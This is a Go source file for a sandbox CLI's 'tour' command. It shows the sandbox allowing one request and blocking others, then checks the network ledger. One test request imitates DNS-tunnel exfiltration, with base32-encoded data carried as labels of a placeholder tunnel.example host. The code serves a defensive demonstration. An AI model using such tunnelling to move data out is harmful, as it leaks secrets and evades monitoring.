package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/spf13/cobra"

	"capsid/app/session"
	"capsid/guest/control"
	"capsid/proxy/ledger"
)

func (c *cli) tourCmd() *cobra.Command {
	return &cobra.Command{
		Use: "tour", Short: "See in half a minute what a session is and what it cannot do", Args: exactly(0, "no arguments"),
		RunE: func(cmd *cobra.Command, args []string) error {
			err := c.tour(cmd.Context())
			if cmd.Context().Err() != nil {
				return errors.New("interrupted; nothing of the tour is left")
			}
			return err
		},
	}
}

// visit is one request of the tour and what must become of it.
type visit struct {
	why     string // for the person
	url     string
	host    string // how the ledger names it
	allowed bool
}

// tunnelName is what a DNS tunnel asks for: the stolen bytes are the labels.
const tunnelName = "nb2hi4dthixs653xo4xgk6dbnvygyzjomnxw2l3tmvrxezluomfa.mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrt.tunnel.example"

func visits() []visit {
	return []visit{
		{"a request that a rule allows", "https://" + tourHost + "/hello", tourHost, true},
		{"a host that no rule names", "https://unlisted.example/upload", "unlisted.example", false},
		{"an address, past all names", "http://203.0.113.5/", "203.0.113.5", false},
		{"a DNS tunnel: bytes hidden in a name", "https://" + tunnelName + "/", tunnelName, false},
	}
}

func (c *cli) tour(ctx context.Context) error {
	store, err := c.store()
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "capsid-tour-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	work := filepath.Join(dir, "project")
	if err := os.Mkdir(work, 0o755); err != nil {
		return err
	}
	// A workspace is reached by its own path in the machine: the folders above must not be private to us.
	if err := os.Chmod(dir, 0o755); err != nil {
		return err
	}
	host, err := newTourHost(dir)
	if err != nil {
		return fmt.Errorf("tour: serve on loopback: %w", err)
	}
	defer host.close()

	c.say("A shell in a machine of its own, with %s in front of it:", work)
	st, err := store.Start(ctx, session.StartOptions{Agent: "shell", Workspace: work, Policy: host.policy}, c.steps())
	if err != nil {
		for _, line := range st.Console {
			c.note("  | %s", plain(line))
		}
		return err
	}
	defer func() {
		if rmErr := store.Remove(st.ID, true); rmErr != nil {
			c.note("clean up: %v", rmErr)
		}
	}()
	c.say("It runs on %s.", plain(st.Backing))
	g, _, err := c.guest(ctx, st.ID)
	if err != nil {
		return err
	}
	defer g.Close()
	if err = c.tourCommand(ctx, g, work); err == nil {
		err = c.tourNetwork(ctx, g, host)
	}
	if err != nil {
		// Where the session ended, why it did says more than what we noticed of it.
		if now, serr := store.Find(st.ID); serr == nil && now.Error != "" {
			return fmt.Errorf("tour: the session ended: %s (%w)", now.Error, err)
		}
		return err
	}
	list, err := store.Client(st.ID).Ledger(ctx, ledger.Query{})
	if err != nil {
		return err
	}
	c.say("\nThe ledger has all of it (capsid log):")
	if err := c.ledgerTable(list); err != nil {
		return err
	}
	if err := checkLedger(list); err != nil {
		return err
	}
	c.say("\nWhat stood around it:")
	now, err := store.Client(st.ID).Status(ctx)
	if err != nil {
		return err
	}
	for _, d := range now.Defences {
		c.say("  %s", plain(d))
	}
	c.say("\nThe machine is switched off and gone. Next: capsid new claude ~/your/project")
	return nil
}

func (c *cli) say(format string, args ...any) { fmt.Fprintf(c.out, format+"\n", args...) }

// inside runs a command in the machine and returns what it said.
func inside(ctx context.Context, g *control.Client, dir string, command ...string) (string, int, error) {
	var out, errs bytes.Buffer
	code, err := g.Run(ctx, control.RunSpec{Command: command, Dir: dir, Stdout: &out, Stderr: &errs})
	return strings.TrimSpace(errs.String() + out.String()), code, err
}

// tourCommand runs a command whose work shows on the host.
func (c *cli) tourCommand(ctx context.Context, g *control.Client, work string) error {
	c.say("\nA command in it (capsid run):")
	const script = `uname -sr && id -un && echo "written in the machine" > note.txt && ls -l note.txt`
	said, code, err := inside(ctx, g, work, "sh", "-c", script)
	if err != nil {
		return err
	}
	for line := range strings.Lines(said) {
		c.say("  %s", plain(line))
	}
	if code != 0 {
		return fmt.Errorf("tour: the command ended with status %d", code)
	}
	note, err := os.ReadFile(filepath.Join(work, "note.txt"))
	if err != nil || string(note) != "written in the machine\n" {
		return fmt.Errorf("tour: what the machine wrote did not arrive in %s (%v)", work, err)
	}
	c.say("  and here, on the host: %s", bytes.TrimSpace(note))
	return nil
}

// tourNetwork makes the requests.
func (c *cli) tourNetwork(ctx context.Context, g *control.Client, host *loopbackHost) error {
	c.say("\nFour requests from it:")
	for _, v := range visits() {
		said, code, err := inside(ctx, g, "", "curl", "-sS", "--max-time", "60", "-o", "/tmp/answer", "-w", "%{http_code}", v.url)
		if err != nil {
			return err
		}
		passed := code == 0 && lastField(said) == "200"
		result := "blocked"
		if passed {
			result = "allowed"
		}
		c.say("  %-8s %s  (%s)", result, cut(v.url, 56), v.why)
		if passed != v.allowed {
			return fmt.Errorf("tour: %s was %s; curl said: %s", v.url, result, oneLine(said))
		}
	}
	if n := host.served(); n != 1 {
		return fmt.Errorf("tour: the server on loopback saw %d requests, not 1", n)
	}
	return nil
}

func lastField(s string) string {
	f := strings.Fields(s)
	if len(f) == 0 {
		return ""
	}
	return f[len(f)-1]
}

// checkLedger wants a row with the right decision for each visit.
func checkLedger(list []ledger.Entry) error {
	for _, v := range visits() {
		found := false
		for _, e := range list {
			found = found || e.Host == v.host && (e.Decision == ledger.Allow) == v.allowed
		}
		if !found {
			return fmt.Errorf("tour: the ledger has no row for %s", v.url)
		}
	}
	return nil
}
